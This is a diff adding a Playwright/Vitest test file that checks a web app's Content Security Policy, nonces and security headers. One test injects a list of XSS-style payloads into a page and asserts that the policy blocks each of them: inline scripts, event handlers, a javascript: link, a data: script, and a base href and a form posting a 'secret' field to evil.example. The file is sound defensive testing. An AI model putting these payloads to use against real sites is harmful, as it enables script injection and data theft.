@@ -1,0 +1,220 @@
+import type { Page } from 'playwright'
+import { beforeAll, describe, expect, inject, test } from 'vitest'
+import { launchBrowser, WITHOUT_GPU } from '../test/support/browser.ts'
+import { sitePages } from '../test/support/site-pages.ts'
+
+/*
+ * The pages under their own policy: every kind of page in a real browser without one violation, and what a stranger
+ * manages to put into a page does not run. Other files use the pages at length; a violation is a complaint there, too.
+ */
+
+const { site } = inject('endpoints')
+const { open } = sitePages(site)
+
+/** One of each kind, with what makes it fetch more than it came with. */
+const PAGES = [
+  '/',
+  '/discover',
+  '/feed',
+  '/search?q=we',
+  '/connectors/weave',
+  '/transformations/add',
+  '/run/weave?count=8',
+  '/users/0x70997970C51812dc3A010C7d01b50e0d17dc79C8',
+  '/account',
+  '/status',
+  '/worlds',
+  '/worlds/upload',
+  '/docs',
+  '/docs/lessons',
+  '/docs/self-hosting/configuration',
+]
+const ABSENT = ['/nothing/here', '/connectors/nobody_made_this', '/docs/nothing']
+
+/** What the policy stopped, as the page itself hears of it. */
+async function watchViolations(page: Page): Promise<void> {
+  await page.context().addInitScript(() => {
+    const stopped: string[] = []
+    Object.assign(window, { stopped })
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) =>
+      stopped.push(`${violatedDirective} ${blockedURI} ${sourceFile}`),
+    )
+  })
+}
+
+const violations = (page: Page) =>
+  page.evaluate(() => (window as unknown as { stopped: readonly string[] }).stopped)
+
+test('every kind of page works without a violation', async () => {
+  const page = await open('/status', { provoked: '404' })
+  await watchViolations(page)
+  for (const path of [...PAGES, ...ABSENT]) {
+    const answer = await page.goto(site + path)
+    expect(`${answer?.status()} ${path}`).toBe(`${ABSENT.includes(path) ? 404 : 200} ${path}`)
+    // Pages without a nonce of their own would never come to listen, which `goto` waits for.
+    expect(await violations(page), path).toEqual([])
+  }
+})
+
+test('the studio with its worker and code editor, and the reference with its viewer, do, too', async () => {
+  // The studio asks whether the name of the new transformation is taken.
+  const page = await open('/status', { provoked: '404' })
+  await watchViolations(page)
+  await page.goto(`${site}/studio?open=connector/weave`)
+  await page.getByText('3 paths, 64 particles each').first().waitFor()
+  await page.goto(`${site}/studio`)
+  await page
+    .getByRole('region', { name: 'Your transformations' })
+    .getByRole('button', { name: 'New transformation' })
+    .first()
+    .click()
+  await page.locator('.cm-content').first().waitFor()
+  // Its style sheet is written by a script, with the page's nonce.
+  expect(
+    await page
+      .locator('.cm-scroller')
+      .first()
+      .evaluate((box) => getComputedStyle(box).display),
+  ).toBe('flex')
+  expect(await violations(page)).toEqual([])
+
+  await page.goto(`${site}/docs/api`)
+  await page.getByRole('button', { name: 'Open the interactive reference' }).click()
+  await page.getByRole('heading', { name: 'Read the API version' }).first().waitFor()
+  // The viewer asks whether it may evaluate code, and takes no for an answer.
+  expect((await violations(page)).filter((each) => !each.startsWith('script-src eval '))).toEqual([])
+})
+
+describe('what a stranger put into a page', () => {
+  let worldScript: string
+  beforeAll(async () => {
+    const answer = await fetch(`${site}/services/worlds`)
+    const [world] = (await answer.json()) as { id: string }[]
+    const html = await (await fetch(`${site}/services/world-assets/${world?.id}/index.html`)).text()
+    const [, src = ''] = /<script[^>]* src="\.?\/?([^"]+)"/.exec(html) ?? []
+    worldScript = `/services/world-assets/${world?.id}/${src}`
+    expect((await fetch(site + worldScript)).headers.get('content-type')).toContain('javascript')
+  })
+
+  test('does not run, be it inline, a handler, a link, a file of a World or of another site', async () => {
+    const browser = await launchBrowser(WITHOUT_GPU)
+    try {
+      const page = await browser.newPage()
+      await watchViolations(page)
+      const injected = [
+        '<script>window.ran = "inline"</script>',
+        '<script nonce="">window.ran = "an empty nonce"</script>',
+        '<img src="/none.png" alt="" onerror="window.ran = \'a handler\'">',
+        '<svg onload="window.ran = \'a handler\'"></svg>',
+        `<script src="${worldScript}"></script>`,
+        '<script src="data:text/javascript,window.ran = 1"></script>',
+        '<base href="https://evil.example/">',
+        '<a id="link" href="javascript:window.ran = \'a link\'">link</a>',
+        '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
+        '<object data="data:text/html,x"></object>',
+        '<form id="form" method="post" action="https://evil.example/"><input name="secret"></form>',
+        '<style>h1 { outline-style: dotted !important }</style>',
+      ]
+      await page.route(`${site}/docs/concepts`, async (route) => {
+        const response = await route.fetch()
+        const body = (await response.text()).replace('</main>', `${injected.join('')}</main>`)
+        await route.fulfill({ response, body })
+      })
+      await page.goto(`${site}/docs/concepts`)
+      await page.locator('#link').click()
+      await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit())
+      // Not at once: what the test itself says may evaluate.
+      await page.evaluate(() =>
+        setTimeout(() => {
+          try {
+            Object.assign(window, { ran: new Function('return "evaluated"')() })
+          } catch {}
+        }),
+      )
+      // The page itself goes on.
+      await page.waitForFunction(() =>
+        [...document.querySelectorAll('header button[type=button]')].every((each) =>
+          Object.keys(each).some((key) => key.startsWith('__reactProps')),
+        ),
+      )
+      const found = await page.evaluate(() => ({
+        ran: (window as unknown as { ran?: unknown }).ran,
+        base: document.baseURI,
+        outline: getComputedStyle(document.querySelector('h1')!).outlineStyle,
+      }))
+      expect(found).toEqual({
+        ran: undefined,
+        base: `${site}/docs/concepts`,
+        outline: 'none',
+      })
+      const stopped = async () =>
+        (await violations(page)).map((each) => each.split(' ').slice(0, 2).join(' '))
+      await expect
+        .poll(stopped)
+        .toEqual(
+          expect.arrayContaining([
+            'script-src-elem inline',
+            'script-src-attr inline',
+            `script-src-elem ${site}${worldScript}`,
+            'script-src-elem data',
+            'script-src eval',
+            'style-src-elem inline',
+            'form-action https://evil.example/',
+            'base-uri https://evil.example/',
+          ]),
+        )
+      expect(page.url()).toBe(`${site}/docs/concepts`)
+    } finally {
+      await browser.close()
+    }
+  })
+})
+
+describe('headers', () => {
+  const get = (path: string, headers: Readonly<Record<string, string>> = {}) =>
+    fetch(site + path, { headers })
+  const nonceOf = (response: Response) =>
+    /'nonce-([^']+)'/.exec(response.headers.get('content-security-policy') ?? '')?.[1]
+
+  test('have a nonce of their own in every answer, whatever nonce a client asks for', async () => {
+    const wished = "script-src 'nonce-wished'"
+    const answers = await Promise.all(
+      [{}, {}, { 'content-security-policy': wished, 'content-security-policy-report-only': wished }].map(
+        (headers) => get('/docs/concepts', headers),
+      ),
+    )
+    const nonces = answers.map(nonceOf)
+    expect(new Set(nonces).size).toBe(3)
+    for (const [i, answer] of answers.entries()) {
+      const inPage = [...(await answer.text()).matchAll(/ nonce="([^"]*)"/g)].map(([, nonce]) => nonce)
+      expect(inPage.length).toBeGreaterThan(2)
+      expect(new Set(inPage)).toEqual(new Set([nonces[i]]))
+      // A copy in somebody's cache would be a nonce that is known.
+      expect(answer.headers.get('cache-control')).toContain('no-store')
+    }
+  })
+
+  test('keep pages out of frames, and what is evaluated in workers only', async () => {
+    const page = await get('/')
+    expect(Object.fromEntries(page.headers)).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+    })
+    expect(page.headers.get('x-powered-by')).toBeNull()
+    const policies = await Promise.all(
+      [...PAGES, ...ABSENT, '/studio', '/docs/api'].map(
+        async (path) => (await get(path)).headers.get('content-security-policy') ?? '',
+      ),
+    )
+    for (const policy of policies) {
+      const [scripts] = /script-src [^;]*/.exec(policy) ?? []
+      expect(scripts).toMatch(/^script-src 'self' 'nonce-[\w-]{24}' 'sha256-/)
+      expect(scripts).not.toMatch(/unsafe|\*|https?:/)
+    }
+    const picture = await get('/run/weave/image?count=8')
+    expect(picture.headers.get('cross-origin-resource-policy')).toBe('cross-origin')
+  })
+})
